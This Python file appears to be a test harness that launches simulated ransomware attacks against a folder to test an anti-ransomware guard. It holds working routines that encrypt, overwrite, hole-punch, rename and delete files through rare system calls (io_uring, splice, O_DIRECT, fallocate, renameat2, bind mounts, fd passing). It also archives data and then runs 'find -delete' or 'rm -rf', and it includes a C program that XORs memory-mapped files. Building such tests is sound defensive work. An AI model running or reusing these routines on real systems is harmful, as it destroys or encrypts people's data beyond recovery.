#!/usr/bin/env python3
"""Whole attacks by a hand that had not read the guard: beside intruders.py, whose commands these are too, and whose attacks
are listed here as well.

    vandals.py list                 the names, one a line; "-" and a reason where a tool is missing
    vandals.py build DIR            compiles what needs compiling into DIR
    vandals.py run NAME DIR TOOLS   attacks the files of DIR with the tools built in TOOLS
"""

import base64
import contextlib
import ctypes
import fcntl
import mmap
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import intruders
from intruders import cipher, intruder, shell, victims, wait_for_the_guard

libc = ctypes.CDLL(None, use_errno=True)
PAGE = 4096
FICLONE = 0x40049409
PUNCH_HOLE_KEEP_SIZE, ZERO_RANGE, COLLAPSE_RANGE = 3, 16, 8


@contextlib.contextmanager
def opened(path, flags=os.O_RDWR, mode=0o644):
    fd = os.open(path, flags, mode)
    try:
        yield fd
    finally:
        os.close(fd)


def each_that_can_be(folder, act):
    """What is refused is left for the next."""
    for path in victims(folder):
        with contextlib.suppress(OSError):
            act(path)


def overwrite(path):
    with open(path, "r+b") as file:
        data = file.read()
        file.seek(0)
        file.write(cipher(data, path))


# By calls that are rare

@intruder()
def a_part_of_each_block_by_four_threads(folder, tools):
    def one(path):
        with contextlib.suppress(OSError), opened(path) as fd:
            for at in range(0, os.fstat(fd).st_size, 16 * PAGE):
                os.pwrite(fd, cipher(os.pread(fd, PAGE, at), path), at)
            os.rename(path, f"{path}.k7q2")
    found = victims(folder)
    threads = [threading.Thread(target=lambda mine=found[i::4]: [one(path) for path in mine]) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


class Ring:
    """io_uring through the bare system calls, one act at a time."""
    SETUP, ENTER, OPENAT, WRITE = 425, 426, 18, 23
    ENTRIES, SQES_AT, CQ_AT = 8, 0x10000000, 0x8000000

    def __init__(self):
        told = (ctypes.c_uint32 * 30)()
        self.fd = libc.syscall(self.SETUP, self.ENTRIES, told)
        if self.fd < 0:
            raise OSError("no io_uring")
        _, self.tail, self.mask, _, _, _, self.array = told[10:17]
        self.head, _, self.done_mask, _, _, self.done_at = told[20:26]
        self.queue = mmap.mmap(self.fd, self.array + 4 * told[0])
        self.entries = mmap.mmap(self.fd, 64 * told[0], offset=self.SQES_AT)
        self.done = mmap.mmap(self.fd, self.done_at + 16 * told[1], offset=self.CQ_AT)

    def act(self, code, fd, memory, length, flags=0):
        tail, = struct.unpack_from("I", self.queue, self.tail)
        slot = tail & struct.unpack_from("I", self.queue, self.mask)[0]
        entry = struct.pack("BBHiQQII", code, 0, 0, fd, 0, ctypes.addressof(memory), length, flags)
        self.entries[slot * 64:slot * 64 + 64] = entry.ljust(64, b"\0")
        struct.pack_into("I", self.queue, self.array + 4 * slot, slot)
        struct.pack_into("I", self.queue, self.tail, tail + 1)
        libc.syscall(self.ENTER, self.fd, 1, 1, 1, None, 0)
        head, = struct.unpack_from("I", self.done, self.head)
        struct.pack_into("I", self.done, self.head, head + 1)
        slot = head & struct.unpack_from("I", self.done, self.done_mask)[0]
        return struct.unpack_from("i", self.done, self.done_at + 16 * slot + 8)[0]


@intruder()
def opened_and_written_by_a_ring(folder, tools):
    ring = Ring()
    for path in victims(folder):
        data = cipher(path.read_bytes(), path)
        name = ctypes.create_string_buffer(os.fsencode(path))
        fd = ring.act(Ring.OPENAT, -100, name, 0o644, os.O_RDWR)
        if fd >= 0:
            ring.act(Ring.WRITE, fd, ctypes.create_string_buffer(data, len(data)), len(data))
            os.close(fd)


def spliced(into, memory, size):
    out, pipe = os.pipe()
    while moved := os.splice(memory, pipe, 16 * PAGE):
        while moved:
            moved -= os.splice(out, into, moved)
    os.close(out), os.close(pipe)


def sent(into, memory, size):
    while size > 0:
        size -= os.sendfile(into, memory, None, size)


@intruder()
def spliced_or_sent_from_memory(folder, tools):
    for i, path in enumerate(victims(folder)):
        data = cipher(path.read_bytes(), path)
        memory = os.memfd_create("x")
        os.write(memory, data)
        os.lseek(memory, 0, os.SEEK_SET)
        with contextlib.suppress(OSError), opened(path, os.O_WRONLY) as fd:
            (sent if i % 2 else spliced)(fd, memory, len(data))
        os.close(memory)


@intruder()
def shared_or_copied_by_range(folder, tools):
    def one(path):
        data = cipher(path.read_bytes(), path)
        with tempfile.NamedTemporaryFile(dir=path.parent) as beside, opened(path, os.O_WRONLY) as fd:
            beside.write(data)
            beside.flush()
            try:
                fcntl.ioctl(fd, FICLONE, beside.fileno())
            except OSError:
                os.copy_file_range(beside.fileno(), fd, len(data), 0, 0)
    each_that_can_be(folder, one)


@intruder()
def past_the_cache(folder, tools):
    def one(path):
        data = path.read_bytes()
        with opened(path, os.O_RDWR | os.O_DIRECT) as fd:
            block = mmap.mmap(-1, max(PAGE, len(data) // PAGE * PAGE))
            block[:] = cipher(data, path)[:len(block)].ljust(len(block), b"\0")
            os.pwritev(fd, [block], 0)
    each_that_can_be(folder, one)


@intruder()
def holes_zeros_and_missing_pages(folder, tools):
    """Not a byte is written."""
    def one(path):
        with opened(path) as fd:
            size = os.fstat(fd).st_size
            part = [(PUNCH_HOLE_KEEP_SIZE, size), (ZERO_RANGE, size), (COLLAPSE_RANGE, size // 2 // PAGE * PAGE)]
            mode, length = part[len(path.name) % 3]
            if libc.fallocate64(fd, mode, ctypes.c_long(0), ctypes.c_long(length)):
                libc.fallocate64(fd, PUNCH_HOLE_KEEP_SIZE, ctypes.c_long(0), ctypes.c_long(size))
    each_that_can_be(folder, one)


@intruder()
def cut_through_a_descriptor_for_reading(folder, tools):
    def one(path):
        with opened(path, os.O_RDONLY) as fd:
            data = cipher(path.read_bytes(), path)
            os.truncate(f"/proc/self/fd/{fd}", 0)
            Path(f"{path}.enc").write_bytes(data)
    each_that_can_be(folder, one)


@intruder()
def descriptors_handed_to_others(folder, tools):
    """One process opens, four that never opened anything write."""
    ours, theirs = socket.socketpair()
    for _ in range(4):
        if os.fork() == 0:
            ours.close()
            while fds := socket.recv_fds(theirs, 1, 1)[1]:
                os.pwrite(fds[0], cipher(os.pread(fds[0], 1 << 26, 0), folder), 0)
                os.close(fds[0])
            os._exit(0)
    theirs.close()
    for path in victims(folder):
        with contextlib.suppress(OSError), opened(path) as fd:
            socket.send_fds(ours, [b"f"], [fd])
    ours.close()
    for _ in range(4):
        os.wait()


# By names and places

@intruder()
def originals_wander_through_two_names(folder, tools):
    yard = Path(folder) / ".cache"
    found = victims(folder)
    yard.mkdir()
    for i, path in enumerate(found):
        with contextlib.suppress(OSError):
            (yard / f"{i}").write_bytes(cipher(path.read_bytes(), path))
            path.rename(yard / f"{i}.a").rename(yard / "b")
            (yard / f"{i}").rename(path)


@intruder()
def exchanged_with_the_nameless(folder, tools):
    """Made without a name, named by linkat, exchanged by renameat2."""
    at_here, follow, exchange = -100, 0x400, 2

    def one(path):
        beside = f"{path}.x"
        with opened(path.parent, os.O_TMPFILE | os.O_RDWR) as fd:
            os.write(fd, cipher(path.read_bytes(), path))
            libc.linkat(at_here, f"/proc/self/fd/{fd}".encode(), at_here, beside.encode(), follow)
        libc.renameat2(at_here, beside.encode(), at_here, os.fsencode(path), exchange)
        os.unlink(beside)
    each_that_can_be(folder, one)


@intruder()
def through_a_bind_mount(folder, tools):
    new_names = 0x20000
    with tempfile.TemporaryDirectory() as there:
        if libc.unshare(new_names):
            return
        subprocess.run(["mount", "--make-rprivate", "/"], check=True)
        subprocess.run(["mount", "--bind", folder, there], check=True)
        each_that_can_be(there, overwrite)
        subprocess.run(["umount", there], check=False)


@intruder()
def folders_behind_links(folder, tools):
    """Folders go into a hidden one, links stand for them, files are replaced through the links."""
    found = victims(folder)
    store = Path(folder) / ".store"
    parts = [part for part in Path(folder).iterdir() if part.is_dir()]
    store.mkdir()
    for part in parts:
        part.rename(store / part.name)
        part.symlink_to(Path(".store") / part.name)
    for path in found:
        with contextlib.suppress(OSError):
            beside = Path(f"{path}.new")
            beside.write_bytes(cipher(path.read_bytes(), path))
            beside.rename(path)


@intruder()
def linked_out_and_written_there(folder, tools):
    outside = Path(folder).parent.parent.parent / f"outside.{os.getpid()}"
    outside.mkdir()
    for i, path in enumerate(victims(folder)):
        with contextlib.suppress(OSError):
            os.link(path, outside / str(i))
            overwrite(outside / str(i))


@intruder()
def rights_and_names_taken_first(folder, tools):
    for i, path in enumerate(victims(folder)):
        path.chmod(0)
        path.rename(path.parent / f"{i:08x}")
    each_that_can_be(folder, overwrite)


@intruder()
def taken_away_sealed_and_brought_back(folder, tools):
    with tempfile.TemporaryDirectory(dir="/dev/shm") as there:
        for i, path in enumerate(victims(folder)):
            with contextlib.suppress(OSError):
                away = Path(shutil.move(path, there))
                (path.parent / f"{i:08x}").write_bytes(cipher(away.read_bytes(), path))
                away.unlink()


# By a part, or by what looks like something else

@intruder()
def pages_with_their_heads_kept(folder, tools):
    """As a database keeps them; size and times stay."""
    head = 24

    def one(path):
        was = path.stat()
        with opened(path) as fd:
            for at in range(0, was.st_size, PAGE):
                page = os.pread(fd, PAGE, at)
                os.pwrite(fd, page[:head] + cipher(page[head:], path), at)
            os.fsync(fd)
        os.utime(path, ns=(was.st_atime_ns, was.st_mtime_ns))
    each_that_can_be(folder, one)


@intruder()
def head_kept_and_the_rest_spelled(folder, tools):
    head = 256

    def one(path):
        data = path.read_bytes()
        path.write_bytes(data[:head] + base64.b64encode(cipher(data[head:], path)))
    each_that_can_be(folder, one)


@intruder()
def tables_deleted_then_heads_written_over(folder, tools):
    for path in victims(folder):
        if path.suffix == ".csv":
            path.unlink()

    def one(path):
        with open(path, "r+b") as file:
            head = file.read(512)
            file.seek(0)
            file.write(cipher(head, path))
    each_that_can_be(folder, one)


# By archives

@intruder("age")
def tar_and_age_then_find(folder, tools):
    shell("cd \"$1\"; age-keygen -o \"$2/key\" 2>/dev/null; to=$(grep -o 'age1.*' \"$2/key\"); "
          "tar cz --exclude=all.age . | age -r \"$to\" > all.age; find . -type f ! -name all.age -delete", folder, tools)


@intruder("openssl")
def folder_after_folder_tar_and_openssl(folder, tools):
    shell('cd "$1"; for d in */; do tar c "$d" | openssl enc -aes-256-ctr -pbkdf2 -k x > "${d%/}.bin" && rm -rf "$d"; done',
          folder)


@intruder("zip")
def zip_in_memory_then_find(folder, tools):
    shell('cd "$1"; zip -q -r -P secret "/dev/shm/$$.zip" .; cp "/dev/shm/$$.zip" all.zip; rm "/dev/shm/$$.zip"; '
          "find . -type f ! -name all.zip -delete", folder)


# Compiled: as fast as memory

C_MAPPINGS = r"""
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
enum { FILES = 1000 };
static char line[4096];
static unsigned char* memory[FILES];
static long size[FILES];
int main(void) {
    int n = 0;
    while (n < FILES && fgets(line, sizeof line, stdin) && line[0] != '\n') {
        line[strcspn(line, "\n")] = 0;
        int fd = open(line, O_RDWR);
        struct stat info;
        if (fd < 0 || fstat(fd, &info)) continue;
        memory[n] = mmap(0, info.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        size[n++] = info.st_size;
        close(fd);
    }
    puts("ready");
    fflush(stdout);
    if (!fgets(line, sizeof line, stdin)) return 1;
    unsigned long state = 88172645463325252UL;
    for (int i = 0; i < n; ++i)
        for (long k = 0; k < size[i]; ++k) {
            state ^= state << 13, state ^= state >> 7, state ^= state << 17;
            memory[i][k] ^= (unsigned char)state;
        }
    sleep(5);
}
"""
intruders.SOURCES["mappings"] = C_MAPPINGS


@intruder("gcc")
def compiled_mappings_from_before(folder, tools):
    child = subprocess.Popen([os.path.join(tools, "mappings")], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    child.stdin.write("\n".join(map(str, victims(folder))) + "\n\n")
    child.stdin.flush()
    child.stdout.readline()
    wait_for_the_guard()
    child.stdin.write("go\n")
    child.stdin.flush()
    child.wait()
    time.sleep(1)


if __name__ == "__main__":
    sys.exit(intruders.main())
